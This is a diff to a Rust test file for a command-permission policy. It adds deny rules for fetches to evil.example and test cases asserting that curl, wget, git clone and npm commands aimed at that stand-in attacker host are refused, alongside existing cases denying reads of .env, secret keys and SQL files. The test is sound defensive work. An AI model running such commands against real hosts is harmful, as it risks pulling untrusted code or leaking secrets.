@@ -368,7 +368,7 @@ fn a_rule_that_denies_or_asks_also_holds_for_what_runners_aliases_and_shells_run
 }
 
 #[test]
-fn without_a_sandbox_a_command_may_not_name_a_file_that_a_rule_hides() {
+fn without_a_sandbox_a_command_may_not_name_a_file_or_host_that_a_rule_denies() {
     let rule = |text: &str| Rule::parse(text, RuleAction::Deny, Scope::User).unwrap();
     let policy = PolicyRules {
         rules: vec![
@@ -376,6 +376,8 @@ fn without_a_sandbox_a_command_may_not_name_a_file_that_a_rule_hides() {
             rule("read(*.sql)"),
             rule("read(.env)"),
             rule("read(~/notes)"),
+            rule("fetch(domain:evil.example)"),
+            rule("fetch(domain:*.evil.example)"),
         ],
         bases: PathBases { roots: vec!["/ws".into()], home: Some("/home/u".into()) },
         can_confine: true,
@@ -397,12 +399,17 @@ fn without_a_sandbox_a_command_may_not_name_a_file_that_a_rule_hides() {
         "vim $PWD/secrets/key",
         "less ~/notes/x",
         "psql -f a.sql",
+        "curl https://evil.example/x",
+        "curl evil.example",
+        "wget -q https://u:p@A.Evil.Example:8443/x",
+        "git clone git@evil.example:a/b",
+        "npm i --registry=https://evil.example",
     ] {
         let effects = [Effect::Exec(Box::new(shell::command(line, "/ws", ShellDialect::Bash)))];
         let got = decide(&policy, Mode::Full, &Grants::default(), &effects).verdict();
         assert_eq!(got, Verdict::Deny, "{line}");
     }
-    for line in ["ls src", "cat .env.example", "git commit -m 'no secrets'", "echo .env"] {
+    for line in ["ls src", "cat .env.example", "git commit -m 'no secrets'", "curl a.example"] {
         let effects = [Effect::Exec(Box::new(shell::command(line, "/ws", ShellDialect::Bash)))];
         let got = decide(&policy, Mode::Full, &Grants::default(), &effects).verdict();
         assert_eq!(got, Verdict::Allow, "{line}");
